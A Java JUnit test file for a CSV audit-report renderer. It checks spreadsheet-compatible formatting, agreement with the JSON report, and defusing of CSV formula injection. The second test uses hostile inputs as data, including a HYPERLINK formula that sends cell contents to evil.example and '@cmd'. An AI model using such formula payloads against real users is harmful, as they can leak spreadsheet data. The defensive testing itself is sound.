package io.auditor.report;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import io.auditor.model.RunReport;
import io.auditor.report.history.RunContext;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

class CsvReportTest {
    private static final CsvReport CSV = new CsvReport();

    /** Reads the file as a spreadsheet would: BOM, header row, RFC 4180 quoting. */
    static List<Map<String, String>> parse(byte[] file) throws Exception {
        assertArrayEquals(new byte[]{(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, Arrays.copyOf(file, 3), "UTF-8 BOM");
        String text = new String(file, 3, file.length - 3, StandardCharsets.UTF_8);
        CsvMapper mapper = new CsvMapper().enable(CsvParser.Feature.FAIL_ON_MISSING_COLUMNS);
        try (MappingIterator<Map<String, String>> it = mapper.readerFor(Map.class)
                .with(CsvSchema.emptySchema().withHeader().withStrictHeaders(true)).readValues(text)) {
            return it.readAll();
        }
    }

    @Test
    void oneRowPerResultAgreeingWithTheJsonReport() throws Exception {
        RunReport run = SampleRuns.mixed();
        byte[] file = CSV.render(run, RunContext.none());
        String text = new String(file, StandardCharsets.UTF_8);
        assertTrue(text.startsWith("\uFEFFrun,started_at,device,control,"), text);
        assertTrue(text.contains("\r\n"), "RFC 4180 line ends");
        List<Map<String, String>> rows = parse(file);
        assertEquals(run.results().size(), rows.size());
        assertEquals(CsvReport.COLUMNS, List.copyOf(rows.get(0).keySet()));

        JsonNode json = new ObjectMapper().readTree(new JsonReport().render(run));
        Map<String, Integer> fromCsv = new HashMap<>();
        for (Map<String, String> r : rows) fromCsv.merge(r.get("status"), 1, Integer::sum);
        JsonNode s = json.get("summary");
        assertEquals(s.get("pass").asInt(), fromCsv.getOrDefault("PASS", 0));
        assertEquals(s.get("gap").asInt(), fromCsv.getOrDefault("GAP", 0));
        assertEquals(s.get("notAssessed").asInt(), fromCsv.getOrDefault("NOT_ASSESSED", 0));
        assertEquals(s.get("waived").asInt(), fromCsv.getOrDefault("WAIVED", 0));
        assertEquals(s.get("notApplicable").asInt(), fromCsv.getOrDefault("NOT_APPLICABLE", 0));

        Map<String, String> waived = rows.get(1);
        assertEquals("AV-02", waived.get("control"));
        assertEquals("WAIVED", waived.get("status"));
        assertEquals("J Smith (Head)", waived.get("waiver_approved_by"));
        assertEquals("2025-03-31", waived.get("waiver_expires"));
        assertEquals("000 §12; CE", waived.get("policy_refs"));
        assertEquals("expired 2024-12-31 (waivers.yaml:12)", rows.get(0).get("expired_waiver"));
    }

    @Test
    void formulasFromDevicesAreDefusedAndQuotingRoundTrips() throws Exception {
        List<Map<String, String>> rows = parse(CSV.render(HostileRuns.run(), RunContext.none()));
        Map<String, String> gap = rows.get(0);
        List<String> evidence = gap.get("evidence").lines().toList();
        assertEquals("product " + HostileRuns.SCRIPT + " stopped [defender-status]", evidence.get(0));
        // The whole multi-line cell starts with the first line, so only it decides; each line is checked
        // on its own in the one-line cells below.
        assertFalse(evidence.get(0).startsWith("'"));
        for (Map<String, String> row : rows) {
            for (Map.Entry<String, String> cell : row.entrySet()) {
                String v = cell.getValue();
                assertFalse(!v.isEmpty() && "=+-@\t\r".indexOf(v.charAt(0)) >= 0, cell.toString());
                assertFalse(v.contains("\u001b") || v.contains("\u0000") || v.contains("\u009b"), cell.toString());
            }
        }
        assertEquals("'@SUM(A1:A9) " + HostileRuns.IMG, rows.get(1).get("waiver_approved_by"));
        assertEquals("'=1", CsvReport.field("=1"));
        assertEquals("'+1", CsvReport.field("+1"));
        assertEquals("'-2", CsvReport.field("-2"));
        assertEquals("'@cmd", CsvReport.field("@cmd"));
        assertEquals("'\t=1", CsvReport.field("\t=1"));
        assertEquals("' =1", CsvReport.field(" =1"));
        assertEquals("\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"click\"\")\"", CsvReport.field(HostileRuns.FORMULA));
        assertEquals("plain", CsvReport.field("plain"));
        assertEquals("\"a,b\"", CsvReport.field("a,b"));
        assertEquals("\"two\nlines\"", CsvReport.field("two\r\nlines"));
    }
}
